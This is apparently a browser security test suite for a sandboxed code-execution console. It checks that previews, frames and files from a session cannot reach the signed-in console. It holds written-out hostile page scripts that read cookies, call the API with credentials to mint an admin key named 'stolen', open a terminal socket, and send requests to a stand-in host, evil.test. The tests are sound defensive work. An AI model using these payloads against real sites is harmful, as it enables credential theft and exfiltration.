/// <reference lib="dom" />
import type { Execution, Preview, Process } from "@sandbar/shared";
import type { Page } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { useBrowser } from "../fixtures/browser.ts";
import { useStack } from "../fixtures/use-stack.ts";

/** What a hostile page tries; what succeeded is in the list that it posts, which must be empty. */
const HOSTILE = `
(async () => {
  const got = [];
  const attempt = async (name, work) => {
    try { if (await work()) got.push(name); } catch {}
  };
  const answers = async (path, init) => (await fetch(path, init)).ok;
  await attempt("an origin", () => self.origin !== "null");
  await attempt("a cookie", () => document.cookie !== "");
  await attempt("making a cookie", () => { document.cookie = "sandbar=x"; return document.cookie !== ""; });
  await attempt("storage", () => localStorage);
  await attempt("databases", () => indexedDB.open("x") && caches.keys().then(() => true));
  await attempt("a service worker", () => navigator.serviceWorker.register("/x.js"));
  await attempt("the parent's document", () => parent !== self && parent.document.body);
  await attempt("the parent's variables", () => parent !== self && parent.sandbar);
  await attempt("the opener", () => opener && opener.document);
  await attempt("the API", () => answers(ROOT + "/v1/me"));
  await attempt("the API with cookies", () => answers(ROOT + "/v1/me", { credentials: "include" }));
  await attempt("keys", () => answers(ROOT + "/v1/keys", { method: "POST", credentials: "include",
    headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: "stolen", scopes: ["admin"] }) }));
  await attempt("sign-out", () => fetch(ROOT + "/console/sign-out", { method: "POST", mode: "no-cors", credentials: "include" }).then(() => false));
  await attempt("a terminal", () => new Promise((resolve) => {
    const socket = new WebSocket(ROOT.replace("http", "ws") + "/v1/sessions/" + SESSION + "/terminal", "sandbar");
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }));
  await attempt("the API in a frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = ROOT + "/v1/me";
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText.includes("tenant")); } catch { resolve(false); } };
    document.body.append(frame);
    setTimeout(() => resolve(false), 1500);
  }));
  await attempt("an API script", () => new Promise((resolve) => {
    const script = document.createElement("script");
    script.src = ROOT + "/v1/me";
    script.onload = () => resolve(true);
    script.onerror = () => resolve(false);
    document.body.append(script);
  }));
  if (top !== self) try { top.location = "https://evil.test/"; } catch {}
  document.title = "tried";
  window.result = got;
  parent.postMessage({ got }, "*");
})();`;

/** A server that says everything that would help its page, and serves it a module and data. */
const SERVER = `
import http.server, json, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.split("?")[0]
        kind, body = {
            "/": ("text/html", sys.argv[1]),
            "/app.js": ("text/javascript", "window.loaded = (await (await fetch('data')).json()).origin;"),
            "/data": ("application/json", json.dumps({"origin": self.headers.get("Origin")})),
        }.get(path, ("text/plain", "none"))
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Security-Policy", "sandbox allow-same-origin allow-scripts allow-top-navigation; frame-ancestors 'none'")
        self.send_header("X-Frame-Options", "DENY")
        self.send_header("Set-Cookie", "planted=1; Path=/")
        self.end_headers()
        self.wfile.write(body.encode())
    def log_message(self, *a): pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 8000), Handler)
print("listening", flush=True)
server.serve_forever()
`;

/** What is refused is also complained about, in the browser's own words. */
const LOUD = { expected: /./ };

/** Opens `src` in a frame of the console's page, gives it messages, and waits for what it says. */
const framed = (page: Page, src: string, messages: unknown[], awaited: "got" | "height") =>
  page.evaluate(
    ([src, messages, awaited]) =>
      new Promise<unknown>((resolve) => {
        const frame = document.createElement("iframe");
        frame.src = src;
        frame.onload = () => {
          for (const message of messages) frame.contentWindow!.postMessage(message, "*");
        };
        addEventListener("message", ({ source, data }) => {
          if (source !== frame.contentWindow || !(awaited in data) || data.height < 100) return;
          frame.remove();
          resolve(data[awaited]);
        });
        document.body.append(frame);
      }),
    [src, messages, awaited] as const,
  );

async function resultOf(page: Page): Promise<string[]> {
  await page.waitForFunction(() => "result" in window);
  return page.evaluate(() => (window as unknown as { result: string[] }).result);
}

const signedIn = (page: Page) => page.evaluate(async () => (await fetch("/v1/me")).ok);

describe("what a session makes, in a browser that is signed in", () => {
  const { stack, client } = useStack();
  const { open } = useBrowser(stack);
  let session: string;
  let hostile: string;

  beforeAll(async () => {
    session = (await client.create()).id;
    hostile = HOSTILE.replaceAll("ROOT", JSON.stringify(stack.url)).replaceAll(
      "SESSION",
      JSON.stringify(session),
    );
    const page = `<!doctype html><body><script type="module" src="app.js"></script><script>${hostile}</script>`;
    const { id } = await client.ok<Process>("POST", `/v1/sessions/${session}/processes`, {
      argv: ["python3", "-c", SERVER, page],
    });
    for await (const event of client.events(`/v1/sessions/${session}/processes/${id}/events`))
      if (event.data.text === "listening\n") break;
  });

  const preview = async () =>
    (await client.ok<Preview>("POST", `/v1/sessions/${session}/ports/8000/preview`)).url;

  it("does not run in the console's page, which shows its cookie to no script", async () => {
    const page = await open("/", LOUD);
    expect(await page.evaluate(() => document.cookie)).toBe("");
    const ran = await page.evaluate(
      async (src) => {
        const inline = document.createElement("script");
        inline.textContent = "window.inline = true";
        const foreign = document.createElement("script");
        foreign.src = src;
        const loaded = new Promise((resolve) => {
          foreign.onerror = () => resolve(false);
          foreign.onload = () => resolve(true);
        });
        document.body.append(inline, foreign);
        return [await loaded, "inline" in window];
      },
      `${await preview()}app.js`,
    );
    expect(ran).toEqual([false, false]);
  });

  it.each(["HTML", "SVG"])("as %s in the console's frame reaches nothing", async (kind) => {
    const page = await open("/", LOUD);
    const attribute = hostile.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
    const html =
      kind === "HTML"
        ? `<p>hello</p><script>${hostile}</script>`
        : `<svg viewBox="0 0 1 1"><image href="data:," onerror="${attribute}"></image></svg>`;
    expect(await framed(page, "/console/frame", [{ html }], "got")).toEqual([]);
    expect(await signedIn(page)).toBe(true);
    expect(page.url()).toContain(stack.url);
  });

  it("in the console's frame sends nothing out", async () => {
    const page = await open("/", LOUD);
    const sent: string[] = [];
    await page.context().route("https://evil.test/**", (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
    const html = `<img src="https://evil.test/image"><link rel="stylesheet" href="https://evil.test/style">
<style>body { background: url(https://evil.test/background) }</style>
<form action="https://evil.test/form"></form>
<script>
fetch("https://evil.test/fetch").catch(() => {});
navigator.sendBeacon("https://evil.test/beacon");
document.forms[0].submit();
location = "https://evil.test/leave";
</script>`;
    const refused = page.waitForEvent("console", (message) => /^Framing .*evil\.test/.test(message.text()));
    // The page that leaves does not answer.
    framed(page, "/console/frame", [{ html }], "got").catch(() => {});
    await refused;
    expect(sent).toEqual([]);
  });

  it("is shown once in a frame, which says how high it is, also out of sight", async () => {
    const page = await open("/", LOUD);
    await page.setViewportSize({ width: 400, height: 100 });
    const messages = [
      { other: 1 },
      null,
      { html: 1 },
      { html: '<div style="height: 321px"></div>' },
      { html: '<div style="height: 1000px"></div>' },
    ];
    expect(await framed(page, "/console/frame", messages, "height")).toBe(321);
  });

  it("works as a preview for whoever has the link: modules, and data of its own server", async () => {
    const page = await open("/", LOUD);
    const context = await page.context().browser()!.newContext();
    const stranger = await context.newPage();
    await stranger.goto(await preview());
    await stranger.waitForFunction(() => "loaded" in window);
    const loaded = await stranger.evaluate(() => (window as unknown as { loaded: string }).loaded);
    expect(loaded).toBe("http://localhost:8000");
    expect(await context.cookies()).toEqual([]);
    await context.close();
  });

  it("as a preview reaches nothing of the console, framed or alone", async () => {
    const page = await open("/", LOUD);
    const url = await preview();
    expect(await framed(page, url, [], "got")).toEqual([]);
    const alone = await page.context().newPage();
    await alone.goto(url);
    expect(await resultOf(alone)).toEqual([]);
    expect(await signedIn(page)).toBe(true);
    const names = (await page.context().cookies()).map(({ name }) => name);
    expect(names).toEqual([expect.stringMatching(/^sandbar-\d+$/)]);
  });

  it("as a port that is opened with the cookie reaches nothing either", async () => {
    const page = await open(`/v1/sessions/${session}/ports/8000/`, LOUD);
    expect(await resultOf(page)).toEqual([]);
  });

  it("as a file or an artifact is a download, and sandboxed should it ever be shown", async () => {
    const page = await open("/", LOUD);
    const code = `open("/session/a.html", "w").write("<script>1</script>")
open("/session/a.svg", "w").write("<svg/>")
open("/session/artifacts/b.html", "w").write("<script>1</script>")`;
    const execution = await client.ok<Execution>("POST", `/v1/sessions/${session}/executions`, { code });
    const files = ["a.html", "a.svg"].map((name) => `${stack.url}/v1/sessions/${session}/files?path=${name}`);
    for (const url of [...files, execution.artifacts[0]!.url!]) {
      const answer = await page.context().request.get(url);
      expect(answer.status(), url).toBe(200);
      expect(answer.headers(), url).toMatchObject({
        "content-disposition": expect.stringMatching(/^attachment/),
        "content-security-policy": expect.stringMatching(/^sandbox;/),
        "x-content-type-options": "nosniff",
      });
    }
  });
});
